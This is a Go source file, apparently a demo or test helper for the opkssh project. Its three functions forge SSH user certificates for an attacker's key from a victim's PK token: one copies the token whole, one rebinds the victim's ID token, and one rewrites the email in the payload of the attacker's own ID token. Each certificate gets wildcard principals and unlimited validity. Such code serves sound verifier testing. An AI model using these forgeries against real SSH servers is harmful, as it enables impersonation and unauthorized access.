package demo

import (
	"bytes"
	"crypto"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"strings"

	"golang.org/x/crypto/ssh"

	"opkssh/pkg/pktoken"
	"opkssh/pkg/sshcert"
)

// What somebody with a key of his own can try with another person's token. Each gives a certificate for the key that ssh and
// the certificate's own signature have nothing against.

// copiedToken puts the victim's PK token, as it is, into a certificate for the thief's key.
func copiedToken(victim *pktoken.Token, thief crypto.Signer) (*ssh.Certificate, error) {
	signer, err := ssh.NewSignerFromSigner(thief)
	if err != nil {
		return nil, err
	}
	email, _ := victim.UnverifiedClaims()["email"].(string)
	cert := &ssh.Certificate{
		Key: signer.PublicKey(), CertType: ssh.UserCert, KeyId: email,
		ValidPrincipals: []string{sshcert.WildcardPrincipal}, ValidBefore: ssh.CertTimeInfinity,
		Permissions: ssh.Permissions{Extensions: map[string]string{sshcert.ExtensionPKToken: victim.Compact()}},
	}
	return cert, cert.SignCert(rand.Reader, signer)
}

// reboundIDToken makes a PK token of the victim's ID token and the thief's key.
func reboundIDToken(victim *pktoken.Token, thief crypto.Signer) (*ssh.Certificate, error) {
	idToken, ok := victim.IDToken()
	if !ok {
		return nil, errors.New("expected a PK token with the ID token in it")
	}
	return certificateFor(idToken, thief)
}

// editedIDToken writes the victim's address into the thief's ID token.
func editedIDToken(own *pktoken.Token, thief crypto.Signer, from, to string) (*ssh.Certificate, error) {
	idToken, ok := own.IDToken()
	parts := strings.Split(idToken, ".")
	if !ok || len(parts) != 3 || !bytes.Contains(own.UnverifiedPayload(), []byte(from)) {
		return nil, errors.New("expected a PK token with an ID token for " + from)
	}
	edited := bytes.ReplaceAll(own.UnverifiedPayload(), []byte(from), []byte(to))
	parts[1] = base64.RawURLEncoding.EncodeToString(edited)
	return certificateFor(strings.Join(parts, "."), thief)
}

func certificateFor(idToken string, key crypto.Signer) (*ssh.Certificate, error) {
	client, err := pktoken.NewClientInstance(rand.Reader, key, nil)
	if err != nil {
		return nil, err
	}
	token, err := client.Bind(idToken)
	if err != nil {
		return nil, err
	}
	signer, err := ssh.NewSignerFromSigner(key)
	if err != nil {
		return nil, err
	}
	return sshcert.New(rand.Reader, signer, token, sshcert.Template{})
}
